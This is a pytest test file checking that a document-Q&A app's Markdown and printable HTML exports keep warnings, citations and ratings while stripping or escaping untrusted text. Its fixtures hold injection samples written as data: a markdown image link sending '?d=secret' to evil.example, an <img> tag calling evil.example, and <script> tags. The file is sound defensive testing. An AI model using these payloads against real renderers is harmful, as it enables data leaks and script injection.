"""core/exports.py: the Markdown and printable HTML exports keep every warning, citation and rating,
and carry no live HTML, link or image from the model or the documents. Real History on SQLite."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from core.errors import NotFoundError
from core.exports import (GENERAL, NO_CITATIONS, NO_SOURCE, NOT_FOUND, UNSUPPORTED, conversation_html,
                          conversation_markdown, export_file_name)
from core.history import History
from core.types import AnswerResult, MatchedSentence, Passage

RETURNS = ("4.1 Returns within 30 days. Within 30 days of the purchase date you can return any product,\n"
           "for any reason, for a full refund. 4.2 Returns after 30 days. From day 31 to day 60 you get\n"
           "store credit only. We do not give cash refunds in this period.")
HOURS = "Opening hours. We open at nine and close at six on weekdays. On Saturdays we open at ten."
EVIL_FILE = "<b>Prices</b> & [terms](https://evil.example/f).pdf"
EVIL_TEXT = ("Staff discount <img src=https://evil.example/x.png> is 10%. "
             "<script>alert('doc')</script> Call us.")


@pytest.fixture
def history(settings):
    return History(settings.db_path)


def answered(history, conv, question, result: AnswerResult, rating=None, comment=""):
    history.add_message(conv, "user", question)
    mid = history.add_answer(conv, question, result)
    if rating:
        history.set_feedback(mid, rating, comment)
    return mid


@pytest.fixture
def conversation(history):
    conv = history.new_conversation()
    answered(history, conv, "Can I return a bike after 45 days?", AnswerResult(
        answer=("Between day 31 and day 60 you get store credit only [1]. The manager decides on the colour [2]. "
                "On Saturdays we open at ten. The owner is called Sam."),
        found=True, citations=[Passage(1, "Returns.pdf", 3, None, None, RETURNS, "c1"),
                               Passage(2, "Hours.docx", None, None, "Opening hours", HOURS, "c2",
                                       matched_by_groundwork=True)],
        unsupported=["The manager decides on the colour [2].", "The owner is called Sam."],
        matched=[MatchedSentence("On Saturdays we open at ten.", 2)]), rating=1, comment="clear, thanks")
    answered(history, conv, "When do we open?", AnswerResult(
        answer="We open at nine on weekdays.", found=True, no_citations=True, notice="The answer was stopped "
        "before it finished."), rating=-1)
    answered(history, conv, "Do we sell scooters?", AnswerResult(
        answer="Ollama isn't running, so here are the passages that best match your question; start Ollama to "
               "get a written answer.", found=True, mode="search_only", error_kind="not_running",
        notice="Groundwork can't reach Ollama at http://127.0.0.1:11434; start Ollama and try again.",
        citations=[Passage(1, "Hours.docx", None, None, "Opening hours", HOURS, "c2")]))
    answered(history, conv, "What is the CEO's salary?", AnswerResult(
        answer="The documents don't say.", found=False, general_knowledge=True))
    return conv


def test_markdown_keeps_every_warning_citation_and_rating(history, conversation):
    md = conversation_markdown(history.conversation(conversation), history.messages(conversation))
    assert md.startswith("# Can I return a bike after 45 days?\n")
    # the unsupported sentence is flagged, not shown as clean
    assert f"\n> ⚠️ {UNSUPPORTED}“The manager decides on the colour.”\n\n" in md  # no raw [2] in a warning
    assert f"\n> ⚠️ {NO_SOURCE}“The owner is called Sam.”\n\n" in md
    assert "\n> ℹ️ Source [2] was matched by Groundwork (the model didn't cite it) for: “On Saturdays we open at ten.”" in md
    assert f"> ⚠️ {NO_CITATIONS}" in md
    assert "> ℹ️ The answer was stopped before it finished." in md
    assert "> ⚠️ Groundwork can't reach Ollama at" in md
    assert f"> ⚠️ {NOT_FOUND}" in md and f"> ℹ️ {GENERAL}" in md
    # each citation: file, place and the lines that back the claim up (not just the passage's start)
    assert '- [1] Returns.pdf, page 3: "From day 31 to day 60 you get store credit only."' in md
    # [2] was matched to "On Saturdays we open at ten." (and cited for the colour, which it doesn't say)
    assert '- [2] Hours.docx, section “Opening hours”: "On Saturdays we open at ten."' in md
    # ratings
    assert "_Rated helpful: “clear, thanks”._" in md and "_Rated not helpful._" in md and "_Not rated._" in md
    # warnings sit under their own answer
    first, second = md.split("**Question:** When do we open?")
    assert UNSUPPORTED in first and NO_CITATIONS not in first and NO_CITATIONS in second


def test_markdown_neutralises_model_and_document_text(history):
    conv = history.new_conversation()
    answered(history, conv, "Discount?", AnswerResult(
        answer="It is 10% [1]. ![x](https://evil.example/leak.png?d=secret) <b>bold</b>", found=True,
        citations=[Passage(1, EVIL_FILE, 2, None, None, EVIL_TEXT, "c9")]))
    md = conversation_markdown(history.conversation(conv), history.messages(conv))
    assert "![" not in md and "](https://" not in md and "<b>" not in md and "<img" not in md
    assert "<script" not in md


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def test_printable_html_keeps_the_warnings_and_is_self_contained(history, conversation):
    page = conversation_html(history.conversation(conversation), history.messages(conversation))
    parsed = _Tags()
    parsed.feed(page)
    text = " ".join("".join(parsed.text).split())
    assert UNSUPPORTED + "“The manager decides on the colour.”" in text and NO_SOURCE + "“The owner is called Sam.”" in text
    assert "Source [2] was matched by Groundwork (the model didn't cite it) for: “On Saturdays we open at ten.”" in text
    assert NO_CITATIONS in text and "The answer was stopped before it finished." in text
    assert NOT_FOUND in text and GENERAL in text
    assert "[1] Returns.pdf, page 3" in text and "From day 31 to day 60 you get store credit only." in text
    assert "Rated helpful: “clear, thanks”." in text and "Not rated." in text
    # printable and loads nothing: print styles, a policy that blocks every fetch, no script, no link, no image
    assert "@media print" in page and "default-src 'none'" in page
    assert not {"script", "img", "a", "link", "iframe", "object"} & set(parsed.tags)
    assert not [v for k, v in parsed.attrs if k in ("src", "href")]


def test_printable_html_escapes_model_and_document_text(history):
    conv = history.new_conversation("<script>alert('title')</script>")
    answered(history, conv, "<i>Discount?</i>", AnswerResult(
        answer="It is **10%** [1]. <img src=https://evil.example/x.png> <script>alert(1)</script>", found=True,
        citations=[Passage(1, EVIL_FILE, 2, None, None, EVIL_TEXT, "c9")],
        unsupported=["<script>bad()</script> [1]"], matched=[MatchedSentence("<b>matched</b>", 1)]))
    page = conversation_html(history.conversation(conv), history.messages(conv))
    parsed = _Tags()
    parsed.feed(page)
    assert not {"script", "img", "a", "i", "b"} & set(parsed.tags)
    assert "<strong>10%</strong>" in page  # the model's bold survives, as our own tag
    text = "".join(parsed.text)
    assert "<script>alert(1)</script>" in text and "<b>Prices</b>" in text and "<i>Discount?</i>" in text
    assert "<img src=https://evil.example/x.png>" in text  # shown as text, never loaded
    assert "“<b>matched</b>”" in text and "<script>bad()</script>" in text


def test_a_missing_conversation_says_so(history):
    with pytest.raises(NotFoundError):
        history.conversation(424242)


def test_export_file_names_are_plain():
    assert export_file_name("Can I return a bike after 45 days?", "md") == "Can-I-return-a-bike-after-45-days.md"
    assert export_file_name("¿¡!!", "html") == "conversation.html"
    assert re.fullmatch(r"[A-Za-z0-9-]+\.md", export_file_name("a/b\\c:..d" * 20, "md"))


def test_markdown_export_of_stored_messages(history):
    """Moved from tests/test_history.py when the export left History (answers stored as plain messages)."""
    conv = history.new_conversation("Opening hours")
    cites = [{"n": 1, "file": "Handbook.pdf", "page": 3, "text": "We open at nine and close at six on weekdays."},
             {"n": 2, "file": "Policies.docx", "page": None, "section": "Weekends", "text": "word " * 100}]
    history.add_message(conv, "user", "When do we open?")
    answer = history.add_message(conv, "assistant", "At nine on weekdays [1] and ten on Saturdays [2].", cites,
                                 {"found": True, "question": "When do we open?"})
    history.set_feedback(answer, 1, "right")
    history.add_message(conv, "user", "Sundays?")
    history.add_message(conv, "assistant", "The documents don't say.", [], {"found": False, "question": "Sundays?"})
    md = conversation_markdown(history.conversation(conv), history.messages(conv))
    assert md.startswith("# Opening hours\n")
    assert "**Question:** When do we open?" in md and "**Question:** Sundays?" in md
    assert "At nine on weekdays [1] and ten on Saturdays [2]." in md
    assert '[1] Handbook.pdf, page 3: "We open at nine and close at six on weekdays."' in md
    assert '[2] Policies.docx, section “Weekends”: "word word' in md and "…\"" in md
    assert len(md.split("[2] Policies.docx")[1].splitlines()[0]) < 400  # a 500-character passage is shortened
    assert md.index("[1] Handbook.pdf") < md.index("**Question:** Sundays?")  # sources under their answer
    assert "Rated helpful: “right”" in md
    assert "I couldn't find this in your documents." in md.split("**Question:** Sundays?")[1]
    with pytest.raises(NotFoundError):
        history.conversation(123456)
